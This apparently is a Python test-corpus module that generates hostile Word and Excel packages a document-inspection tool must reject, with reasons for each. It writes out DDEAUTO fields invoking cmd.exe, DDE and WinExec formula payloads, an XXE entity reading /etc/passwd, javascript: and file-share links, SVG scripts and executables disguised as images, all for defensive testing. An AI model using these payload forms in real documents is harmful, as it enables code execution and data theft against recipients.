"""Documents and sheets that must be refused: every kind of relationship under every name, fields, formulas, parts."""

from collections.abc import Callable, Mapping

from app.inspection.reasons import Reason
from tests.corpus import Hostile
from tests.corpus.packages import MAIN_TYPE, RID, SHEET, Related, package, relationships
from tests.files import image, office, packed, pdf

WEB = "https://example.org/a"
FETCHED: Mapping[str, tuple[Related, Reason]] = {
    "a template": (("attachedTemplate", WEB, "External"), Reason.OUTSIDE),
    "a template on a share": (("attachedTemplate", "\\\\server\\a.dotm", "External"), Reason.OUTSIDE),
    "a picture": (("image", WEB, "External"), Reason.OUTSIDE),
    "a picture on this machine": (("image", "file:///c:/a.png", "External"), Reason.OUTSIDE),
    "a frame": (("frame", WEB, "External"), Reason.OUTSIDE),
    "an object": (("oleObject", WEB, "External"), Reason.EMBEDDED),
    "a part of the document": (("subDocument", WEB, "External"), Reason.EMBEDDED),
    "a list of recipients": (("mailMergeSource", "file:///c:/a.xlsx", "External"), Reason.OUTSIDE),
    "a transformation": (("transform", WEB, "External"), Reason.OUTSIDE),
    "a film": (("video", WEB, "External"), Reason.EMBEDDED),
    "a sound": (("audio", WEB, "External"), Reason.EMBEDDED),
    "a sheet of the web": (("externalLinkPath", WEB, "External"), Reason.OUTSIDE),
    "a sheet on a share": (("externalLinkPath", "\\\\server\\a.xlsx", "External"), Reason.OUTSIDE),
    "a sheet on this machine": (("externalLinkPath", "file:///C:\\a.xlsx", "External"), Reason.OUTSIDE),
    "a table": (("queryTable", WEB, "External"), Reason.OUTSIDE),
    "something of no known kind": (("https://example.org/kind", WEB, "External"), Reason.OUTSIDE),
    "a link to a file": (("hyperlink", "file:///c:/a.exe", "External"), Reason.OUTSIDE),
    "a link to a share": (("hyperlink", "\\\\server\\a", "External"), Reason.OUTSIDE),
    "a link to a share, escaped": (("hyperlink", "%5C%5Cserver\\a", "External"), Reason.OUTSIDE),
    "a link to a script": (("hyperlink", "java&#10;script:alert(1)", "External"), Reason.OUTSIDE),
    "a link to a program": (("hyperlink", "ms-excel:ofe|u|https://example.org", "External"), Reason.OUTSIDE),
    "a link without a scheme": (("hyperlink", "//server/a", "External"), Reason.OUTSIDE),
    "a link that says it leads inside": (("hyperlink", "file:///c:/a.exe", "Internal"), Reason.OUTSIDE),
    "macros": (("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", "Internal"), Reason.MACRO),
    "a control": (("control", "x.xml", "Internal"), Reason.MACRO),
    "a ribbon": (("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "x.xml", "Internal"), Reason.MACRO),
    "an add-in": (("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x.xml", "Internal"), Reason.MACRO),
    "macros of a sheet": (("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "x.xml", "Internal"), Reason.MACRO),
    "a web page": (("aFChunk", "x.htm", "Internal"), Reason.EMBEDDED),
}  # fmt: skip
Named = Callable[[str, Related], bytes]


def _of_settings(rels: str = "_rels/{}.rels") -> Named:
    settings = b"<settings/>"
    return lambda kind, one: package(
        kind, parts={"word/settings.xml": settings}, related={"word/settings.xml": (one,)}, rels=rels
    )


def _strict(kind: str, one: Related) -> bytes:
    return package(kind, related={"word/document.xml": ((f"http://purl.oclc.org/ooxml/x/{one[0].rpartition('/')[2]}", *one[1:]),)})


NAMED: Mapping[str, Named] = {
    "of the main part": lambda kind, one: package(kind, related={"word/document.xml": (one,)}),
    "of a main part in binary": lambda kind, one: package(kind, main="word/document.bin", related={"word/document.bin": (one,)}),
    "of a main part in capitals": lambda kind, one: package(kind, main="word/document.XML", related={"word/document.XML": (one,)}),
    "of the settings": _of_settings(),
    "of the settings, in capitals": _of_settings("_RELS/{}.RELS"),
    "of the settings, half in capitals": _of_settings("_rels/{}.RELS"),
    "of the settings, escaped": _of_settings("_rels/{}%2Erels"),
    "of the whole package": lambda kind, one: package(
        kind, parts={"_rels/.rels": _root(one)}
    ),
    "by the strict standard": _strict,
    "in another case": lambda kind, one: package(kind, related={"word/document.xml": ((one[0], one[1], one[2].upper()),)}),
}  # fmt: skip


def _root(one: Related) -> bytes:
    return relationships(("officeDocument", "word/document.xml", "Internal"), one)


def runs(*pieces: str, tag: str = "instrText") -> str:
    """Write a field whose code is split over runs."""
    inside = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r><w:r><w:rPr/></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return f"<w:p>{mark % 'begin'}{inside}{mark % 'separate'}<w:r><w:t>x</w:t></w:r>{mark % 'end'}</w:p>"


CODES: Mapping[str, tuple[str, Reason]] = {
    "DDE": ('DDE Excel "C:\\\\a.xls" R1C1', Reason.ACTION),
    "DDEAUTO": ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x", Reason.ACTION),
    "ddeauto": ("  ddeauto  cmd x", Reason.ACTION),
    "INCLUDEPICTURE": (f'INCLUDEPICTURE "{WEB}" \\d', Reason.OUTSIDE),
    "INCLUDETEXT": (f'INCLUDETEXT "{WEB}"', Reason.OUTSIDE),
    "IMPORT": (f"IMPORT {WEB}", Reason.OUTSIDE),
    "LINK": ('LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" S!A \\a', Reason.OUTSIDE),
    "RD": (f"RD {WEB}", Reason.OUTSIDE),
    "DATABASE": ('DATABASE \\c "DSN=x" \\s "SELECT 1"', Reason.OUTSIDE),
    "EMBED": ("EMBED Package", Reason.OUTSIDE),
    "PRINT": ("PRINT 27", Reason.ACTION),
    "HTMLCONTROL": ("HTMLCONTROL Forms.HTML:Image.1", Reason.ACTION),
    "HYPERLINK to a file": ('HYPERLINK "file:///c:\\\\a.exe"', Reason.OUTSIDE),
    "HYPERLINK to a share": ('HYPERLINK \\o "x" \\\\\\\\server\\\\a', Reason.OUTSIDE),
    "HYPERLINK to a script": ('HYPERLINK \\l "x" "javascript:alert(1)"', Reason.OUTSIDE),
}
WRITTEN: Mapping[str, Callable[[str], str]] = {
    "in one run": runs,
    "letter by letter": lambda code: runs(*code),
    "in two halves": lambda code: runs(code[:4], code[4:]),
    "in runs of plain text": lambda code: runs(code[:3], code[3:], tag="t"),
    "deleted": lambda code: runs(code[:2], code[2:], tag="delInstrText"),
    "as a simple field": lambda code: f"<w:p><w:fldSimple w:instr='{code}'/></w:p>",
    "without an end": lambda code: f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p>',
    "within another": lambda code: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
    + runs(code) + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
}  # fmt: skip
FORMULAS: Mapping[str, tuple[str, Reason]] = {
    "WEBSERVICE": ('_xlfn.WEBSERVICE("https://example.org/"&amp;A1)', Reason.OUTSIDE),
    "webservice": ('webservice ("https://example.org")', Reason.OUTSIDE),
    "WEBSERVICE by another name": ('_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("https://example.org"))', Reason.OUTSIDE),
    "IMAGE": ('_xlfn.IMAGE("https://example.org/a.png")', Reason.OUTSIDE),
    "RTD": ('RTD("x","server","y")', Reason.OUTSIDE),
    "a question to a cube": ('CUBEVALUE("x","y")', Reason.OUTSIDE),
    "a sheet of the web": ("'https://example.org/[a.xlsx]S'!A1", Reason.OUTSIDE),
    "a sheet on a share": ("'\\\\server\\x\\[a.xlsx]S'!A1", Reason.OUTSIDE),
    "DDE": ("cmd|'/c calc'!A0", Reason.ACTION),
    "a function of a library": ('CALL("kernel32","WinExec","JCJ","calc",0)', Reason.ACTION),
    "an old macro": ('EXEC("calc")', Reason.ACTION),
    "a link to a file": ('HYPERLINK("file:///c:/a.exe","x")', Reason.OUTSIDE),
    "a link to a share, in pieces": ('HYPERLINK("\\\\ser"&amp;"ver\\a","x")', Reason.OUTSIDE),
    "a link that is computed": ("HYPERLINK(CHAR(102)&amp;A1)", Reason.OUTSIDE),
}
_WS = f'<worksheet xmlns="{SHEET}" {RID}>%s</worksheet>'
PLACED: Mapping[str, str] = {
    "of a cell": "<sheetData><row><c><f>%s</f></c></row></sheetData>",
    "of a rule of formats": "<conditionalFormatting><cfRule><formula>%s</formula></cfRule></conditionalFormatting>",
    "of a check of values": "<dataValidations><dataValidation><formula1>%s</formula1></dataValidation></dataValidations>",
    "of a name": "<definedNames><definedName name='x'>%s</definedName></definedNames>",
    "of a column of a table": "<tableColumn><calculatedColumnFormula>%s</calculatedColumnFormula></tableColumn>",
}


def sheet(inside: str, *, name: str = "xl/worksheets/sheet1.xml", **options: object) -> bytes:
    """Make a sheet whose first part of cells holds something."""
    return package("xlsx", main="xl/workbook.xml", parts={name: (_WS % inside).encode()}, **options)  # type: ignore[arg-type]


def part(name: str, content: bytes, kind: str = "", extension: str = "docx") -> bytes:
    """Make a document with one more part of a type."""
    return package(extension, parts={name: content}, types={name: kind} if kind else {})


DDE = runs("DDEAUTO cmd x")
PI = b'<?xml version="1.0"?><?xml-stylesheet href="https://example.org"?><a/>'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'


def _svg(inside: str) -> bytes:
    return part("word/media/a.svg", (_SVG % inside).encode(), "image/svg+xml")


def _connection(attributes: str, inside: str = "") -> bytes:
    content = f'<connections xmlns="{SHEET}"><connection id="1" {attributes}>{inside}</connection></connections>'
    return part("xl/anything.xml", content.encode(), "", "xlsx")


_OTHERS: Mapping[str, tuple[str, bytes, Reason]] = {
    "a field in a main part in UTF-16": ("docx", package(body=DDE, encoding="utf-16"), Reason.ACTION),
    "a field in a main part in binary": ("docx", package(body=DDE, main="word/document.bin"), Reason.ACTION),
    "a field in a main part in capitals": ("docx", package(body=DDE, main="word/document.XML"), Reason.ACTION),
    "a field in a head under another name": (
        "docx", part("word/x.dat", f'<w:hdr xmlns:w="w">{DDE}</w:hdr>'.encode(), "application/x-anything"), Reason.ACTION,
    ),
    "a field whose name is computed": ("docx", package(body=DDE.replace("DDEAUTO cmd x", "</w:instrText></w:r>" + runs("QUOTE 68 68 69") + "<w:r><w:instrText> cmd x")), Reason.ACTION),
    "a document type in binary": (
        "docx", package(parts={"word/x.bin": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), Reason.UNREADABLE,
    ),
    "a style sheet for a part": ("docx", part("word/x.xml", PI), Reason.OUTSIDE),
    "a very deep part": ("docx", part("word/x.xml", b"<a>" * 2000 + b"</a>" * 2000), Reason.BOMB),
    "fields within fields": ("docx", package(body='<w:fldChar w:fldCharType="begin"/>' * 60), Reason.BOMB),
    "a picture of old drawings": ("docx", package(body='<v:imagedata xmlns:v="v" src="https://example.org/a.png"/>'), Reason.OUTSIDE),
    "a picture of old drawings, by its link": ("docx", package(body='<v:imagedata xmlns:v="v" xmlns:o="o" o:href="https://example.org/a.png"/>'), Reason.OUTSIDE),
    "a drawing that leads to a file": ("docx", package(body='<v:shape xmlns:v="v" href="file://server/a"/>'), Reason.OUTSIDE),
    "a picture by a relationship for links": (
        "docx", package(body='<a:blip xmlns:a="a" r:link="r0"/>', related={"word/document.xml": (("hyperlink", WEB, "External"),)}), Reason.OUTSIDE,
    ),
    "a film by its address": ("docx", package(body='<wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe/&gt;"/>'), Reason.OUTSIDE),
    "an object in a drawing": ("docx", package(body='<o:OLEObject xmlns:o="o" Type="Link"/>'), Reason.EMBEDDED),
    "a chunk of another kind": ("docx", package(body='<w:altChunk r:id="x"/>'), Reason.EMBEDDED),
    "a question to a database": ("docx", package(body='<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>'), Reason.OUTSIDE),
    "a base for all links": (
        "docx", part("docProps/app.xml", b"<Properties><HyperlinkBase>\\\\server\\</HyperlinkBase></Properties>"), Reason.OUTSIDE,
    ),
    "an add-in": ("docx", part("word/x.xml", b"<we:webextension xmlns:we='w'/>"), Reason.MACRO),
    "a ribbon": ("docx", part("word/x.xml", b"<customUI onLoad='x'/>"), Reason.MACRO),
    "macros under a plain name": ("docx", part("word/x.bin", b"\xd0\xcf\x11\xe0", "application/vnd.ms-office.vbaProject"), Reason.MACRO),
    "macros by the ending": ("docx", office(parts={"word/vbaproject.BIN": b"\xd0\xcf\x11\xe0"}), Reason.MACRO),
    "a control under a plain name": ("docx", part("word/x.xml", b"<ocx/>", "application/vnd.ms-office.activeX+xml"), Reason.MACRO),
    "a control by what it is": ("docx", part("word/x.xml", b'<ax:ocx xmlns:ax="a"/>'), Reason.MACRO),
    "a program": ("docx", part("word/x.bin", b"MZ" + bytes(60), "application/octet-stream"), Reason.EMBEDDED),
    "a program called a picture": ("docx", part("word/media/a.png", b"MZ" + bytes(60)), Reason.EMBEDDED),
    "a program called a font": ("docx", part("word/fonts/a.odttf", b"MZ" + bytes(60), "application/x-fontdata"), Reason.EMBEDDED),
    "a command file": ("docx", part("word/x.cmd", b"@echo off", "text/plain"), Reason.EMBEDDED),
    "a PDF": ("docx", part("word/x.bin", pdf(), "application/pdf"), Reason.EMBEDDED),
    "a shortcut called a picture": ("docx", part("word/media/a.png", b"L\0\0\0\x01\x14\x02\0"), Reason.EMBEDDED),
    "a sheet": ("docx", package(parts={"word/embeddings/a.xlsx": office("xlsx")}, related={"word/document.xml": (("package", "embeddings/a.xlsx", "Internal"),)}), Reason.EMBEDDED),
    "an archive after a picture": ("docx", part("word/media/a.png", image("PNG")[:-12] + packed({"a": b"b"})), Reason.ARCHIVE),
    "a drawing with a script": ("docx", _svg("<script>alert(1)</script>"), Reason.SCRIPT),
    "a drawing that acts": ("docx", _svg("<rect onload='x'/>"), Reason.SCRIPT),
    "a drawing that fetches": ("docx", _svg(f"<image xlink:href='{WEB}'/>"), Reason.OUTSIDE),
    "a drawing whose style fetches": ("docx", _svg(f"<style>@import '{WEB}'</style>"), Reason.OUTSIDE),
    "a drawing with a page": ("docx", _svg("<image href='data:text/html;base64,AA=='/>"), Reason.EMBEDDED),
    "two parts under one name": ("docx", package(parts={"word/a.xml": b"<a/>", "word/%61.xml": b"<a/>"}), Reason.PATHS),
    "a part in pieces": ("docx", package(parts={"word/a.xml/[0].piece": b"<a/>"}), Reason.PATHS),
    "two main parts": ("docx", package(parts={"_rels/.rels": _root(("officeDocument", "word/document.xml", "Internal"))}), Reason.DISGUISED),
    "a package without a main part": ("docx", package(parts={"_rels/.rels": b"<Relationships/>"}), Reason.DISGUISED),
    "a template called a document": ("docx", package(types={"word/document.xml": MAIN_TYPE["docx"].replace("document.main", "template.main")}), Reason.DISGUISED),
    "one package after another": ("docx", office() + office(), Reason.ARCHIVE),
    "an encrypted document": ("docx", b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), Reason.ENCRYPTED),
    "a connection that refreshes": ("xlsx", _connection('refreshOnLoad="1"'), Reason.OUTSIDE),
    "a connection that refreshes itself": ("xlsx", _connection('interval="5"'), Reason.OUTSIDE),
    "a connection to a page": ("xlsx", _connection("", f'<webPr url="{WEB}"/>'), Reason.OUTSIDE),
    "a connection to a text": ("xlsx", _connection("", '<textPr sourceFile="\\\\s\\a"/>'), Reason.OUTSIDE),
    "a connection to a database": ("xlsx", _connection("", '<dbPr connection="Provider=SQLOLEDB;Data Source=s"/>'), Reason.OUTSIDE),
    "a table that refreshes": ("xlsx", part("xl/x.xml", f'<queryTable xmlns="{SHEET}" refreshOnLoad="true"/>'.encode(), "", "xlsx"), Reason.OUTSIDE),
    "a pivot that refreshes": ("xlsx", part("xl/x.xml", f'<pivotCacheDefinition xmlns="{SHEET}" refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>'.encode(), "", "xlsx"), Reason.OUTSIDE),
    "a DDE link": ("xlsx", part("xl/x.xml", f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'.encode(), "", "xlsx"), Reason.OUTSIDE),
    "an OLE link": ("xlsx", part("xl/x.xml", f'<externalLink xmlns="{SHEET}"><oleLink progId="x"/></externalLink>'.encode(), "", "xlsx"), Reason.OUTSIDE),
    "macros that begin by themselves": ("xlsx", sheet("<definedName name='_xlnm.Auto_Open'>S!A1</definedName>"), Reason.MACRO),
    "a hidden macro name": ("xlsx", sheet("<definedName name='x' xlm='1' function='1'>S!A1</definedName>"), Reason.MACRO),
    "a shape that runs a macro": ("xlsx", part("xl/x.xml", b'<xdr:sp xmlns:xdr="x" macro="[1]!run"/>', "", "xlsx"), Reason.MACRO),
    "a picture of the web in a cell": ("xlsx", part("xl/x.xml", b"<webImageSrd/>", "", "xlsx"), Reason.OUTSIDE),
    "a formula of a pivot": ("xlsx", sheet("<cacheField formula='WEBSERVICE(1)'/>"), Reason.OUTSIDE),
    "a formula of a chart": ("xlsx", part("xl/x.xml", b'<c:f xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">RTD("x")</c:f>', "", "xlsx"), Reason.OUTSIDE),
    "cells in a part in binary": ("xlsx", sheet("<f>WEBSERVICE(A1)</f>", name="xl/worksheets/sheet1.bin"), Reason.OUTSIDE),
}  # fmt: skip


def hostile() -> Hostile:
    """Make every one."""
    made: Hostile = {f"{name}, in an office file": one for name, one in _OTHERS.items()}
    for kind, (related, reason) in FETCHED.items():
        for name, make in NAMED.items():
            made[f"a document with {kind} {name}"] = ("docx", make("docx", related), reason)
    for code, (written, reason) in CODES.items():
        for manner, write in WRITTEN.items():
            made[f"a document with the field {code} {manner}"] = ("docx", package(body=write(written)), reason)
    for formula, (written, reason) in FORMULAS.items():
        for place, around in PLACED.items():
            made[f"a sheet with {formula} in the formula {place}"] = ("xlsx", sheet(around % written), reason)
    return made
